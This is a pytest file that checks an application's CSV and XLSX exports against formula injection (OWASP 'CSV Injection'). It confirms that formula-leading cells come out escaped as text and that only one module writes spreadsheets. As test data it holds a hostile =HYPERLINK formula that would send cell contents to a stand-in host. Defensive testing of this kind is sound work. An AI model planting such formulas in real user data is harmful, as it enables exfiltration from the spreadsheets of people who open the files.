"""One writer for every CSV and XLSX a person downloads, and no formula in any of them.

OWASP, "CSV Injection": a cell that starts with =, +, -, @, a tab or a carriage return is
a formula to a spreadsheet program; a name typed at sign-up must reach the clerk's
spreadsheet as text (issue 20, finding "Formula injection").
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from accounts.roles import Role
from core.spreadsheets import table_bytes
from tests.factories import AuthorizationFactory, SuspensionCaseFactory, UserFactory

ROOT = Path(__file__).resolve().parents[2]
WRITER = ROOT / "core" / "spreadsheets.py"
HOSTILE = '=HYPERLINK("http://x"&A1,"Ver")'
# Writers of spreadsheets: csv's and openpyxl's.
WRITER_NAMES = {"writer", "DictWriter", "Workbook", "WriteOnlyCell"}


def _sources() -> list[Path]:
    skip = {".venv", "tests", "node_modules", "bench"}
    return [
        path
        for path in ROOT.rglob("*.py")
        if not skip & set(path.relative_to(ROOT).parts) and path != WRITER
    ]


def _writer_uses(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.ImportFrom)
            and node.module
            and (node.module == "csv" or node.module.startswith("openpyxl"))
        ):
            found += [f"import {a.name}" for a in node.names if a.name in WRITER_NAMES]
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and node.value.id in ("csv", "openpyxl")
            and node.attr in WRITER_NAMES
        ):
            found.append(f"{node.value.id}.{node.attr}")
    return [f"{path.relative_to(ROOT)}: {what}" for what in found]


def test_no_module_but_the_one_writer_writes_csv_or_xlsx():
    uses = [use for path in _sources() for use in _writer_uses(path)]
    assert uses == [], "write spreadsheets through core.spreadsheets.write_table:\n" + "\n".join(
        uses
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_owasp_a_cell_starting_a_formula_is_text_in_csv_and_xlsx(start):
    value = f"{start}1+1"
    text = table_bytes("csv", headers=["a"], rows=[[value]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";"))[1] == ["'" + value]
    book = load_workbook(io.BytesIO(table_bytes("xlsx", headers=["a"], rows=[[value]])))
    cell = book.active["A2"]
    # XML reads a lone carriage return back as a line feed; the apostrophe stays first.
    assert (cell.value.replace("\n", "\r"), cell.data_type) == ("'" + value, "s")


def test_numbers_and_plain_text_are_left_as_they_are():
    text = table_bytes("csv", headers=["a", "b"], rows=[[-5, "Maria"]]).decode("utf-8-sig")
    assert text.splitlines()[1] == "-5;Maria"


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_owasp_an_applicants_formula_name_reaches_the_clerk_as_text(client, fmt):
    authorization = AuthorizationFactory(holder__name=HOSTILE)
    SuspensionCaseFactory(authorization=authorization)
    client.force_login(UserFactory(role=Role.CLERK))
    response = client.get(f"/painel/exportar/cases.{fmt}", {"status": "all"})
    assert response.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        names = [row[3] for row in rows[1:]]
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [row[3] for row in sheet.iter_rows(min_row=2)]
        assert all(cell.data_type != "f" for cell in cells)
        names = [cell.value for cell in cells]
    assert names == ["'" + HOSTILE]
